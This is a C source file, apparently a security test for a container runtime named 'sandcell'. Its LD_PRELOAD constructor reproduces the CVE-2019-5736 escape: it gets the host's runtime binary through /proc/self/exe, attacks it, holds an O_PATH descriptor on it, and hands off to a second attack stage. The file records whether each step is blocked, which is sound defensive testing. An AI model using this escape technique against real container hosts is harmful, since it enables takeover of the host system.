/* CVE-2019-5736 from inside the runtime's own binary. The test runs
 *   sandcell run -e LD_PRELOAD=/attacks/exe_preload.so -- /proc/self/exe version
 * The command's exec resolves /proc/self/exe while the process is still a
 * fork of sandcell, so the cell runs the host's sandcell binary, and this
 * constructor runs inside it with /proc/self/exe pointing at the host file.
 * It attacks that file, then keeps an O_PATH fd on it and execs
 * /attacks/exe so that the cell no longer runs the binary itself. */
#include "exe.h"

__attribute__((constructor)) static void exe_preload(void)
{
	unsetenv("LD_PRELOAD");
	setvbuf(stdout, NULL, _IOLBF, 0);
	char target[512];
	attempt("readlink(/proc/self/exe) from a process running the host binary");
	ssize_t n = readlink("/proc/self/exe", target, sizeof(target) - 1);
	if (n < 0) {
		blocked_errno(errno);
		exit(attack_report());
	}
	blocked("readable but only a name: %.*s", (int)n, target);
	attack_exe_path("/proc/self/exe");

	int fd = open("/proc/self/exe", O_PATH); /* inherited over exec */
	if (fd < 0)
		exit(attack_report());
	char fdarg[16], esc[4];
	snprintf(fdarg, sizeof(fdarg), "%d", fd);
	snprintf(esc, sizeof(esc), "%d", attack_escaped);
	execl("/attacks/exe", "exe", "heldfd", fdarg, esc, (char *)NULL);
	setup_failed("exec /attacks/exe");
}
